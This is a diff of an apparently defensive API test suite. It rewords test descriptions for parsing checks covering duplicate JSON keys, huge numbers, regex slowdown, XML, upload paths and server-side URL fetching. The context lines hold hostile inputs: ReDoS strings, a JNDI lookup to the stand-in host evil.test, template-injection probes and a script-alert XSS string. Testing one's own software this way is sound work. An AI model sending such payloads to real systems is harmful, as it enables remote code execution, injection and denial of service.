@@ -1,4 +1,4 @@
-/** What is read: queries, bodies, header fields, texts. */
+/** Parsing: queries, bodies, header fields, texts. */
 import { first, statuses, unless } from './target.mjs';
 
 const M1 = 'north.M1';
@@ -55,7 +55,7 @@ export const checks = [
   ['C29', 'a parameter twice', async (target) => statuses(400, [target.get('/equipment?first=1&first=2', target.tokens.operator)])],
   [
     'C30',
-    'numbers and texts that readers read differently',
+    'numbers and texts that parsers interpret differently',
     async (target) => {
       const raw = ['{"a":1,"a":2}', '{"a":1e400}', '{"a":9007199254740993}', '{"a":NaN}', '\ufeff{}', '{"a":"\\ud800"}', '{"a":"\\u0000"}'];
       const bodies = raw.map((body) => target.send('POST', '/equipment/reset-equipment', { token: target.tokens.operator, body }));
@@ -83,7 +83,7 @@ export const checks = [
   ],
   [
     'C32',
-    'texts that make patterns slow',
+    'texts that slow regular expressions down',
     async (target) => {
       const before = target.cpu();
       const long = ['a'.repeat(60_000), `${'a.'.repeat(20_000)}!`, `${' '.repeat(50_000)}x`, `${'1'.repeat(50_000)}.`];
@@ -128,9 +128,9 @@ export const checks = [
       );
     },
   ],
-  ['C35', 'XML', 'nothing reads XML yet'],
-  ['C36', 'paths in uploads', 'the api takes no files; the importer reads those that its user names'],
-  ['C37', 'addresses that the server would call', 'nothing a client sends is called; the signing keys come from settings'],
+  ['C35', 'XML', 'XML is not supported yet'],
+  ['C36', 'paths in uploads', 'the api accepts no files; the importer reads the files that its user names'],
+  ['C37', 'URLs that the server would fetch', 'the server fetches no URL from a client; the URL of the signing keys is a setting'],
   [
     'C38',
     'names of streams',
@@ -144,7 +144,7 @@ export const checks = [
   ],
   [
     'C39',
-    'templates are texts',
+    'templates are plain text',
     async (target) => {
       const reason = '${jndi:ldap://evil.test/x} {{7331*3}} <%= 7 %> <script>alert(1)</script>';
       const done = await hold(target, reason);
